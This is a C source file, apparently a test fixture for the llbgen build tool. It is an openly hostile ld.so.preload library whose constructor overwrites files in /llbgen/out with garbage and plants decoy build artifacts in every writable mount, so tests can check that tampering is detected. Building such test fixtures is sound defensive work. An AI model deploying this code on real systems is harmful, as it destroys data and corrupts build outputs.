/*
 * HOSTILE stand-in code for llbgen's tests; never use it anywhere else.
 *
 * hack/standins.sh builds this into a shared library and names it in the
 * hostile-preload stand-in's /etc/ld.so.preload, so the image's loader runs
 * its constructor in every dynamically linked program the image runs. That
 * is what happens when llbgen verifies a cgo binary in its image.
 *
 * The constructor does nothing unless it runs in the helper
 * (docker-credential-ecr-login*) or /llbgen/out exists (the verify stage's
 * output directory): apt-get and gcc in setup and compile stages load it too
 * and must keep working. When it acts, it writes garbage files named like
 * another target's binary and build information into /llbgen/out, truncates
 * every other file already there to garbage, and drops the same two files
 * into every other writable mount it finds in /proc/self/mountinfo. It never
 * writes into a Go build cache (a directory holding Go's README), so that a
 * test of it cannot spoil the test bed's shared cache. When it acts it says
 * so on its standard error, "hostile preload: wrote over N files in
 * /llbgen/out, ...", so a test can tell the attack ran.
 *
 * No C library: raw x86-64 system calls only, so the library loads in any
 * amd64 glibc image whatever glibc it was built against.
 */

#define SYS_read 0
#define SYS_write 1
#define SYS_close 3
#define SYS_readlink 89
#define SYS_getdents64 217
#define SYS_openat 257

#define AT_FDCWD (-100)
#define O_RDONLY 00
#define O_WRONLY 01
#define O_CREAT 0100
#define O_TRUNC 01000
#define O_DIRECTORY 0200000
#define O_CLOEXEC 02000000
#define DT_REG 8

#define OUT_DIR "/llbgen/out"
#define VICTIM "docker-credential-ecr-login-victim"
#define HELPER "docker-credential-ecr-login"
#define GO_README "This directory holds cached build artifacts from the Go build system"

static long sys(long n, long a, long b, long c, long d)
{
	long ret;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return ret;
}

static long xopen(const char *path, long flags, long mode)
{
	return sys(SYS_openat, AT_FDCWD, (long)path, flags | O_CLOEXEC, mode);
}

static void xclose(long fd) { sys(SYS_close, fd, 0, 0, 0); }

static unsigned long slen(const char *s)
{
	unsigned long n = 0;
	while (s[n])
		n++;
	return n;
}

static int has_prefix(const char *s, const char *p)
{
	while (*p)
		if (*s++ != *p++)
			return 0;
	return 1;
}

static int contains(const char *s, unsigned long n, const char *w)
{
	unsigned long m = slen(w);
	for (unsigned long i = 0; i + m <= n; i++) {
		unsigned long j = 0;
		while (j < m && s[i + j] == w[j])
			j++;
		if (j == m)
			return 1;
	}
	return 0;
}

/* join writes DIR/NAME into buf (size 4096); 0 when it does not fit. */
static int join(char *buf, const char *dir, const char *name)
{
	unsigned long i = 0, j = 0;
	while (dir[j] && i < 4000)
		buf[i++] = dir[j++];
	if (i > 0 && buf[i - 1] != '/')
		buf[i++] = '/';
	j = 0;
	while (name[j] && i < 4094)
		buf[i++] = name[j++];
	buf[i] = 0;
	return i < 4094;
}

static const char garbage[] = "HOSTILE PRELOAD GARBAGE: this is not the binary llbgen built\n";

/* write_garbage: 1 when PATH now holds the garbage. */
static int write_garbage(const char *path)
{
	long fd = xopen(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (fd < 0)
		return 0;
	long n = sys(SYS_write, fd, (long)garbage, sizeof garbage - 1, 0);
	xclose(fd);
	return n == (long)sizeof garbage - 1;
}

/* is_go_cache: DIR holds Go's build cache README. */
static int is_go_cache(const char *dir)
{
	static char path[4096], buf[512];
	join(path, dir, "README");
	long fd = xopen(path, O_RDONLY, 0);
	if (fd < 0)
		return 0;
	long n = sys(SYS_read, fd, (long)buf, sizeof buf, 0);
	xclose(fd);
	return n > 0 && contains(buf, (unsigned long)n, GO_README);
}

/* drop writes the two garbage files into DIR; how many it wrote. */
static int drop(const char *dir)
{
	static char path[4096];
	if (is_go_cache(dir))
		return 0;
	join(path, dir, VICTIM);
	int n = write_garbage(path);
	join(path, dir, VICTIM ".buildinfo");
	return n + write_garbage(path);
}

struct dirent64 {
	unsigned long d_ino;
	long d_off;
	unsigned short d_reclen;
	unsigned char d_type;
	char d_name[];
};

/* spoil truncates every regular file in DIR to garbage; how many. */
static int spoil(const char *dir)
{
	static char entries[8192], path[4096];
	int spoiled = 0;
	long fd = xopen(dir, O_RDONLY | O_DIRECTORY, 0);
	if (fd < 0)
		return 0;
	for (;;) {
		long n = sys(SYS_getdents64, fd, (long)entries, sizeof entries, 0);
		if (n <= 0)
			break;
		for (long off = 0; off < n;) {
			struct dirent64 *d = (struct dirent64 *)(entries + off);
			if (d->d_type == DT_REG) {
				join(path, dir, d->d_name);
				spoiled += write_garbage(path);
			}
			off += d->d_reclen;
		}
	}
	xclose(fd);
	return spoiled;
}

static int is_dir(const char *path)
{
	long fd = xopen(path, O_RDONLY | O_DIRECTORY, 0);
	if (fd < 0)
		return 0;
	xclose(fd);
	return 1;
}

/* in_helper: this process runs the credential helper (the verify stage). */
static int in_helper(void)
{
	static char exe[4096];
	long n = sys(SYS_readlink, (long)"/proc/self/exe", (long)exe, sizeof exe - 1, 0);
	if (n <= 0)
		return 0;
	exe[n] = 0;
	return contains(exe, (unsigned long)n, "/" HELPER);
}

/* every_writable_mount drops the garbage files into each read-write mount
 * point but the kernel's and /llbgen/out; how many mounts it wrote into. */
static int every_writable_mount(void)
{
	static char info[65536];
	int mounts = 0;
	long fd = xopen("/proc/self/mountinfo", O_RDONLY, 0), n = 0;
	if (fd < 0)
		return 0;
	for (long r; n < (long)sizeof info - 1 && (r = sys(SYS_read, fd, (long)info + n, sizeof info - 1 - n, 0)) > 0;)
		n += r;
	xclose(fd);
	info[n] = 0;
	/* ID PARENT MAJ:MIN ROOT MOUNTPOINT OPTIONS ... */
	for (char *line = info; *line;) {
		char *end = line, *field[6] = {0};
		int f = 0;
		while (*end && *end != '\n')
			end++;
		char saved = *end;
		*end = 0;
		for (char *p = line; *p && f < 6;) {
			while (*p == ' ')
				p++;
			if (!*p)
				break;
			field[f++] = p;
			while (*p && *p != ' ')
				p++;
			if (*p)
				*p++ = 0;
		}
		if (f == 6 && has_prefix(field[5], "rw") && !contains(field[4], slen(field[4]), "\\") &&
		    !has_prefix(field[4], "/proc") && !has_prefix(field[4], "/sys") && !has_prefix(field[4], "/dev") &&
		    !has_prefix(field[4], OUT_DIR))
			mounts += drop(field[4]) > 0;
		line = saved ? end + 1 : end;
	}
	return mounts;
}

/* say appends S to the message in buf (size 256). */
static void say(char *buf, unsigned long *len, const char *s)
{
	while (*s && *len < 255)
		buf[(*len)++] = *s++;
}

static void say_number(char *buf, unsigned long *len, long v)
{
	char digits[24];
	int i = 0;
	do
		digits[i++] = (char)('0' + v % 10);
	while ((v /= 10) > 0 && i < 23);
	while (i > 0 && *len < 255)
		buf[(*len)++] = digits[--i];
}

__attribute__((constructor)) static void hostile(void)
{
	int out = is_dir(OUT_DIR);
	if (!out && !in_helper())
		return;
	int files = 0;
	if (out) {
		files = spoil(OUT_DIR);
		files += drop(OUT_DIR);
	}
	int mounts = every_writable_mount();
	/* One write, so the line comes out whole among the program's own. */
	static char msg[256];
	unsigned long len = 0;
	say(msg, &len, "hostile preload: wrote over ");
	say_number(msg, &len, files);
	say(msg, &len, " files in " OUT_DIR ", dropped garbage into ");
	say_number(msg, &len, mounts);
	say(msg, &len, " other writable mounts\n");
	sys(SYS_write, 2, (long)msg, (long)len, 0);
}
